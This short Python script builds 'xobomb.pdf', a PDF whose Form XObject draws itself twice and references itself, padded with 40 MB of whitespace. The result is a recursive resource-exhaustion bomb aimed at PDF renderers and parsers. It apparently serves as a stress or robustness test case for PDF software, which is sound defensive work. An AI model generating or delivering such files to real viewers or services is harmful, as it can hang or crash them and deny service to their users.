from mkpdf import *
pad = b' ' * (40 << 20)
form = stream(b'/X Do /X Do' + pad + b'\n', b' /Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X 4 0 R >> >>')
build([b'<< /Type /Catalog /Pages 2 0 R >>',
       b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
       b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R >>',
       form,
       stream(b'/X Do\n')], 'xobomb.pdf')
